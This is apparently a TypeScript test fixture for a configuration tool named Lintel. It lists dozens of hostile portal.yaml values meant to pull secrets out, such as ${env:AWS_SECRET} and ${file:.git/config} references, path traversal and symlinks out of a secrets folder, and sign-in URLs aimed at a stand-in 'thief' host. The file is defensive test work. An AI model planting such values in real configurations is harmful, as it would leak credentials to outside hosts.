// What a change under review tries in order to get a secret out: one row a trick.
import { symlinkSync } from "node:fs";
import { dirname, join } from "node:path";
import type { Environment } from "../support/run.js";
import { BANNER, HEAD, ours, type Ground } from "./ground.js";

type Files = Readonly<Record<string, string>>;

export interface Row {
  readonly what: string;
  readonly files: (ground: Ground) => Files;
  readonly prepare?: (ground: Ground) => void;
  readonly env?: Environment;
}

const state = (what: string, address: string | ((ground: Ground) => string)): Row => ({
  what,
  files: (ground) => {
    const text = typeof address === "string" ? address : address(ground);
    return ours(ground, `state: "${text}"\n${BANNER}`);
  },
});

const signIn = (
  what: string,
  field: string | ((ground: Ground) => string),
  where?: "thief",
): Row => ({
  what,
  files: (ground) => {
    const { portalUrl } = where ? { portalUrl: `${ground.thief.url}/rest` } : ground.sandbox;
    const text = typeof field === "string" ? field : field(ground);
    return {
      "portal.yaml": `${HEAD}portal: { url: "${portalUrl}" }\nsignIn: { ${text} }\n${BANNER}`,
    };
  },
});

const settings = (what: string, rest: string | ((ground: Ground) => string)): Row => ({
  what,
  files: (ground) => ours(ground, typeof rest === "string" ? rest : rest(ground)),
});

export const ROWS: readonly Row[] = [
  state("a key in the state's address", "file:portal.yaml/${env:LINTEL_WEB_SERVICES_KEY}"),
  state("git's own configuration there", "file:portal.yaml/${file:.git/config}"),
  state("a file of the machine there", ({ outside }) => `file:portal.yaml/\${file:${outside}}`),
  state("a file of the secrets there", ({ kept }) => `file:portal.yaml/\${file:${kept}}`),
  state("a whole address that is a secret", "${env:AWS_SECRET}"),
  state("a secret as its scheme", "${env:AWS_SECRET}:x"),
  state("a secret behind a fallback", "file:${env:NONE:-${env:AWS_SECRET}}"),
  state(
    "a reference that the portal's name holds",
    "file:${portal.name}/${env:CI_JOB_TOKEN:-none}",
  ),
  state("a secret in another service's address", "http://127.0.0.1:9/${env:LINTEL_STATE_KEY}"),
  ...[
    "LINTEL_STATE_KEY",
    "LINTEL_STATE_KEY_OLD",
    "LINTEL_SERVE_TOKEN",
    "LINTEL_PROXY_SECRET",
    "LINTEL_HOOK_SECRET",
  ].flatMap((name) => [
    state(`Lintel's own ${name} there`, `file:x/\${env:${name}}`),
    signIn(`${name} as a token`, `method: token, token: "\${env:${name}}"`),
    signIn(
      `${name} as a name, at another host`,
      `method: generate-token, username: "\${env:${name}}"`,
      "thief",
    ),
  ]),
  signIn("the portal at another host", ({ sandbox }) => `url: "${sandbox.signInUrl}"`, "thief"),
  signIn("the sign-in at another host", ({ thief }) => `url: "${thief.url}"`),
  signIn("both at another host", ({ thief }) => `url: "${thief.url}"`, "thief"),
  signIn("a foreign token for another host", 'method: token, token: "${env:AWS_SECRET}"', "thief"),
  signIn("an own token for another host", 'method: token, token: "${env:LINTEL_SPARE}"', "thief"),
  signIn(
    "a file of the machine as a password",
    ({ outside }) => `method: generate-token, username: ada, password: "\${file:${outside}}"`,
  ),
  signIn(
    "a file of the secrets for another host",
    ({ kept }) => `method: generate-token, username: ada, password: "\${file:${kept}}"`,
    "thief",
  ),
  signIn(
    "git's own configuration as a name",
    'method: generate-token, username: "${file:.git/config}"',
  ),
  signIn(
    "a way out of the folder of secrets",
    ({ kept, outside }) =>
      `method: generate-token, username: ada, password: "\${file:${dirname(kept)}/../${outside.split("/").at(-1)}}"`,
  ),
  {
    ...signIn(
      "a link out of the folder of secrets",
      ({ kept }) =>
        `method: generate-token, username: ada, password: "\${file:${dirname(kept)}/link}"`,
    ),
    prepare: ({ kept, outside }) => symlinkSync(outside, join(dirname(kept), "link")),
  },
  signIn(
    "a foreign variable as the referer",
    'method: generate-token, referer: "${env:AWS_SECRET}"',
  ),
  signIn(
    "an own secret as the referer",
    'method: generate-token, username: ada, password: "${env:LINTEL_PASSWORD}", referer: "x ${env:LINTEL_SPARE}"',
  ),
  signIn(
    "an own secret as the user's name",
    ({ sandbox }) => `method: login, url: "${sandbox.signInUrl}", username: "\${env:LINTEL_SPARE}"`,
  ),
  signIn(
    "a foreign variable as the client's id",
    'method: client-credentials, clientId: "${env:CI_JOB_TOKEN}"',
  ),
  signIn(
    "an own secret as the client's id",
    'method: client-credentials, clientId: "${env:LINTEL_SPARE}"',
  ),
  signIn("a secret as the method", 'method: "${env:LINTEL_SPARE}"'),
  signIn("a webhook's address as a token", 'method: token, token: "${env:LINTEL_WEBHOOK_PEOPLE}"'),
  signIn(
    "a webhook's address as the user's name",
    ({ sandbox }) =>
      `method: login, url: "${sandbox.signInUrl}", username: "\${env:LINTEL_WEBHOOK_PEOPLE}"`,
  ),
  state("a webhook's address there", "file:${env:LINTEL_WEBHOOK_PEOPLE}"),
  signIn(
    "a secret as the way the token travels",
    'carry: "${env:LINTEL_SPARE}", url: https://x.example.com',
  ),
  signIn(
    "a secret in the path of the sign-in",
    ({ thief }) => `url: "${thief.url}/\${env:LINTEL_WEB_SERVICES_KEY}"`,
  ),
  signIn(
    "a secret in the host of the sign-in",
    'url: "http://${env:LINTEL_WEB_SERVICES_KEY}.example.com"',
  ),
  signIn(
    "a file in the path of the sign-in",
    ({ sandbox }) => `url: "${sandbox.signInUrl}/\${file:build.log}"`,
  ),
  signIn("an address without https", "url: http://accounts.example.com"),
  {
    what: "a secret in the portal's address",
    files: ({ sandbox, thief }) => ({
      "portal.yaml": `${HEAD}portal: { url: "${thief.url}/\${env:LINTEL_BEID}", id: "\${env:AWS_SECRET}" }\nsignIn: { url: "${sandbox.signInUrl}" }\n`,
    }),
  },
  {
    what: "a secret as the portal's name, and the name everywhere",
    files: ({ sandbox }) => ({
      "portal.yaml": `${HEAD}portal: { name: "\${env:AWS_SECRET}", url: "${sandbox.portalUrl}/\${portal.name}" }\nsignIn: { method: generate-token, username: "\${portal.name}" }\nstate: "file:\${portal.name}"\nsettings: { informationalBanner: { text: "\${portal.name}" } }\n`,
    }),
  },
  settings(
    "a foreign variable in a text",
    'settings: { informationalBanner: { text: "${env:AWS_SECRET}" } }\n',
  ),
  settings(
    "a key behind an escape",
    'settings: { informationalBanner: { text: "$$${env:LINTEL_BEID}" } }\n',
  ),
  settings(
    "a file of the machine in a text",
    ({ outside }) => `settings: { informationalBanner: { text: "\${file:${outside}}" } }\n`,
  ),
  settings(
    "a file of the secrets in a text",
    ({ kept }) => `settings: { informationalBanner: { text: "\${file:${kept}}" } }\n`,
  ),
  settings(
    "git's own configuration in a text",
    'settings: { informationalBanner: { text: "${file:.git/config}" } }\n',
  ),
  settings(
    "a variable in the reason of a guard",
    `${BANNER}allow:\n  - { guard: disconnect, until: 2100-01-01, reason: "\${env:AWS_SECRET}" }\n`,
  ),
  settings(
    "a variable behind an anchor",
    'x-a: &a "${env:AWS_SECRET}"\nsettings: { informationalBanner: { text: *a } }\nstate: *a\n',
  ),
  {
    what: "a base that signs in elsewhere",
    files: (ground) => ({
      "_base.yaml": `signIn: { url: "${ground.thief.url}" }\nstate: "file:\${env:LINTEL_WEB_SERVICES_KEY}"\n`,
      "portal.yaml": `extends: _base.yaml\n${HEAD}portal: { url: "${ground.sandbox.portalUrl}" }\n${BANNER}`,
    }),
  },
  {
    what: "a base outside the repository",
    files: (ground) => ({
      "portal.yaml": `extends: ${ground.outside}\n${ours(ground, BANNER)["portal.yaml"]}`,
    }),
  },
  {
    what: "another host, where no list is set",
    files: (ground) => signIn("", `url: "${ground.thief.url}"`, "thief").files(ground),
    env: { LINTEL_ALLOWED_HOSTS: undefined },
  },
  {
    what: "another host, where the list is empty",
    files: (ground) => signIn("", `url: "${ground.thief.url}"`, "thief").files(ground),
    env: { LINTEL_ALLOWED_HOSTS: "" },
  },
  {
    what: "another host, where there are no credentials",
    files: (ground) => signIn("", `url: "${ground.sandbox.signInUrl}"`, "thief").files(ground),
    env: { LINTEL_BEID: undefined, LINTEL_WEB_SERVICES_KEY: undefined },
  },
];
